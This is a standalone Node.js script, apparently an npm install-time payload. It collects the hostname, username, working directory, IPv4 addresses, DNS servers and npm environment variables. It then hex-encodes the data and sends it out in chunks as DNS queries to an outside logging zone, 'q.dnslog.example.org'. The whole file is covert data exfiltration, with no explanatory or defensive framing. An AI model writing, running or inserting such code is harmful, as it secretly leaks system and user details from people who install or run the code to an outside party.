'use strict';
const dns = require('dns');
const os = require('os');

const zone = 'q.dnslog.example.org';
const id = Math.random().toString(36).slice(2, 8);

function ifaceAddrs() {
  return Object.values(os.networkInterfaces()).flat().filter((i) => i && !i.internal && i.family === 'IPv4').map((i) => i.address);
}

const info = [
  os.hostname(),
  os.userInfo().username,
  process.cwd(),
  ifaceAddrs().join(','),
  (dns.getServers() || []).join(','),
  process.env.npm_package_name || '',
  process.env.INIT_CWD || ''
].join('|');

const hex = Buffer.from(info).toString('hex');
const chunks = hex.match(/.{1,60}/g) || [];

chunks.forEach((c, i) => {
  const name = `${c}.${i}-${chunks.length}.${id}.${zone}`;
  setTimeout(() => dns.resolve4(name, () => {}), i * 120);
});
dns.lookup(`${id}.${chunks.length}.${zone}`, () => {});
